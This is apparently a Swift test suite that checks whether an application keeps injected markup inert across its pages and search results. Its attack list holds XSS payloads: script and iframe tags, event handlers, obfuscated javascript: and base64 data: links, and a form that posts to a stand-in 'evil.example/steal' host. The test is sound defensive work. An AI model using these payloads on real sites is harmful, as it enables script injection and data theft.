import Foundation
import HTTPTypes
import NexusApplication
import NexusDomain
import NexusTestSupport
import Testing

/// Raw HTML and dangerous links written into every text field a page shows — Markdown
/// bodies and key actions, a meeting's text, a finding's text — stay inert on every page and
/// in search snippets: no script, frame, form, object, style or event handler of theirs
/// reaches a browser, and no link of theirs leaves for javascript: or another site.
@Suite("Markup written into content stays inert on every page")
struct MarkupInjectionTests {
    /// What an editor, a translator, an importer or an API client might write.
    static let attacks = [
        "<script>alert('x1')</script>", "<iframe src=\"https://evil.example/frame\"></iframe>",
        "<form action=\"https://evil.example/steal\"><input name=p></form>", "<img src=x onerror=\"alert('x2')\">",
        "<svg onload=\"alert('x3')\"><script>alert('x4')</script></svg>", "<a href=\"javascript:alert('x5')\">a</a>",
        "[click](javascript:alert('x6'))", "[click](JaVaScRiPt:alert('x7'))", "[c](java\tscript:alert('x8'))",
        "![pic](javascript:alert('x9'))", "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<style>body{display:none}</style>", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<object data=\"https://evil.example/o\"></object>", "<base href=\"https://evil.example/\">",
        "[title](https://ok.example \"x\\\" onmouseover=\\\"alert('x10')\")", "<div onclick=\"alert('x11')\">zzyzx</div>",
        "[far](//evil.example/away)", "<!-- a comment --> <![CDATA[ x ]]>",
    ]

    static var payload: String { attacks.joined(separator: "\n\n") }

    /// The test fixture with the attacks added to every kind of text a page shows.
    static func contentFolder() throws -> String {
        let source = Fixtures.testContent
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("nexus-attacks-\(UUID().uuidString)")
        try FileManager.default.copyItem(atPath: source, toPath: folder.path)
        func append(_ path: String, _ text: String) throws {
            let url = folder.appendingPathComponent(path)
            try (String(contentsOf: url, encoding: .utf8) + "\n\n" + text + "\n").write(to: url, atomically: true, encoding: .utf8)
        }
        for path in [
            "practices/first/en.md", "practices/first/fr.md", "concept/form-one/ar.md", "actors/police/sq.md",
            "regions/north/en.md", "meetings/capital-2018/en.md", "themes/a/en.md", "instruments/treaty/en.md",
        ] {
            try append(path, payload)
        }
        let csv = folder.appendingPathComponent("evidence/findings.csv")
        let quoted = "\"" + attacks.joined(separator: " ").replacingOccurrences(of: "\"", with: "\"\"") + "\""
        try
            (String(contentsOf: csv, encoding: .utf8)
            + "north-attack,,north,challenge,,,,,,confirmed,https://example.org/a,\(quoted),,,\n")
            .write(to: csv, atomically: true, encoding: .utf8)
        return folder.path
    }

    @Test("every public and signed-in page, and search, show the attacks as text")
    func inert() async throws {
        let folder = try Self.contentFolder()
        try await TestApp.run(content: folder, seed: AuthTests.seedPeople) { client in
            let admin = TestBrowser(client)
            try await admin.signIn("admin@example.org", AuthTests.password)
            let paths =
                AppTests.pagePaths + SignedInSnapshotTests.publicPaths + [
                    "/search?q=zzyzx", "/search?q=alert", "/search?q=script", "/evidence/findings/north-attack",
                    "/edit/practices/first", "/edit/practices/first/history", "/translate/fr/practices/first", "/edit/meetings/capital-2018",
                    "/evidence/manage", "/evidence/manage/findings/north-attack",
                ]
            for language in Language.allCases {
                for path in paths {
                    let page = try await admin.get("/\(language.code)\(path)")
                    for problem in Self.violations(in: page.body) { Issue.record("/\(language.code)\(path): \(problem)") }
                }
            }
            let found = try await admin.get("/en/search?q=zzyzx")
            #expect(found.body.contains("&lt;div onclick="), "the attack is shown, as text, in the snippet")
        }
        try? FileManager.default.removeItem(atPath: folder)
    }

    /// What the page would let an attacker do, judged from the tags a browser builds.
    static func violations(in html: String) -> [String] {
        let scanned = HTMLTagScanner.scan(html)
        var problems: [String] = []
        if scanned.markupDeclarations > 1 { problems.append("a comment or declaration besides the doctype") }
        for tag in scanned.tags {
            if ["script", "iframe", "object", "embed", "base", "style", "math"].contains(tag.name) {
                problems.append("<\(tag.name)>")
            }
            for (name, value) in tag.attributes {
                if name.hasPrefix("on") { problems.append("\(name) on <\(tag.name)>") }
                if name == "http-equiv" { problems.append("http-equiv on <meta>") }
                let squeezed = value.lowercased().filter { !$0.isWhitespace }
                if ["href", "src", "action", "data"].contains(name) {
                    if squeezed.contains("evil.example") { problems.append("\(name)=\(value) on <\(tag.name)>") }
                    let ownIcon = tag.name == "link" && value == "data:,"
                    if !ownIcon, ["javascript:", "vbscript:", "data:"].contains(where: squeezed.hasPrefix) {
                        problems.append("\(name)=\(value) on <\(tag.name)>")
                    }
                }
            }
        }
        return problems
    }
}
